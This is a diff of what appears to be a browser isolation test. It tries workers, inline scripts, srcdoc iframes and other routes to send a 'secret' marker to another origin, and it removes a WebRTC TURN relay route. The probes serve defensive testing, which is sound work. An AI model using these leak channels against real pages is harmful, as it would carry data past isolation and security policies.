@@ -1,5 +1,5 @@
 // Tries every way that a page has to reach another origin; each asks for a path of its own. Gives the names of the ways.
-const [other, host] = given;
+const [other] = given;
 const url = (way) => `${other}/leak/${way}?secret=1`;
 const put = (tag, fields) => document.body.appendChild(Object.assign(document.createElement(tag), fields));
 const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
@@ -32,13 +32,6 @@ const ways = {
   worker: () => new Worker(blob(`fetch("${url("worker")}", { mode: "no-cors" })`, "text/javascript")),
   inline: () => { put("script", { textContent: `fetch("${url("inline")}", { mode: "no-cors" })` }); },
   srcdoc: () => put("iframe", { srcdoc: `<img src="${url("srcdoc")}">` }),
-  turn: async () => {
-    // A relay over TCP: what WebRTC can say to another host without any request.
-    const server = { urls: `turn:${host}?transport=tcp`, username: "secret", credential: "x" };
-    const line = new RTCPeerConnection({ iceServers: [server] });
-    line.createDataChannel("leak");
-    await line.setLocalDescription(await line.createOffer());
-  },
 };
 const refused = [];
 for (const [way, attempt] of Object.entries(ways)) {
